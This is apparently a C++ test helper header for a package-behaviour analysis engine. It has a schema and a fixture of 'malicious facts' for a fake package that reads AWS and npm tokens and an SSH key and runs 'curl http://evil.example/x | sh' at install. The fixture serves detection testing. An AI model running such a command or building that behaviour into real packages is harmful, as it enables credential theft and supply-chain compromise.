// Shared by the analysis tests: a small schema of their own and one-condition compile helpers.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "engine/analysis/condition_compiler.h"
#include "engine/analysis/condition_evaluator.h"
#include "engine/analysis/condition_parser.h"

namespace vigil::engine::analysis::test {

inline FieldSchema testSchema() {
    FieldSchema s;
    s.fields = {
        {"category", FieldType::String},
        {"phase", FieldType::String},
        {"package.name", FieldType::String},
        {"events.network.count", FieldType::Number},  // declared: a number in the facts
        {"events.network.hosts", FieldType::StringList},
        {"events.env_read", FieldType::StringList},
        {"events.files.read", FieldType::StringList},
        {"events.process.shell_commands", FieldType::StringList},  // .count derived from the list
        {"diff.added.network.hosts", FieldType::StringList},
        {"norm.network.share", FieldType::Number},
        {"exfil.proven", FieldType::Bool},
    };
    return s;
}

inline nlohmann::json maliciousFacts() {
    return nlohmann::json::parse(R"({
      "category": "string",
      "phase": "install",
      "package": {"name": "left-pad-evil"},
      "events": {
        "network": {"count": 2, "hosts": ["evil.example", "cdn.test"]},
        "env_read": ["HOME", "AWS_SECRET_ACCESS_KEY", "NPM_TOKEN", "PATH"],
        "files": {"read": ["$HOME/.ssh/id_rsa", "$PKG/index.js"]},
        "process": {"shell_commands": ["curl http://evil.example/x | sh"]}
      },
      "norm": {"network": {"share": 0.02}},
      "exfil": {"proven": true}
    })");
}

/// Compiles one condition read from "<condition>" with the test schema and the given lists.
inline Result<CompiledPtr> compileText(const std::string& text,
                                       const std::map<std::string, std::vector<Pattern>>& lists = {}) {
    static const FieldSchema schema = testSchema();
    const ConditionSource source = ConditionSource::inlineText(text);
    auto parsed = parseCondition(source);
    if (!parsed)
        return std::move(parsed).error();
    CompileContext context;
    context.schema = &schema;
    context.lists = &lists;
    return compileCondition(**parsed, source, context);
}

}  // namespace vigil::engine::analysis::test
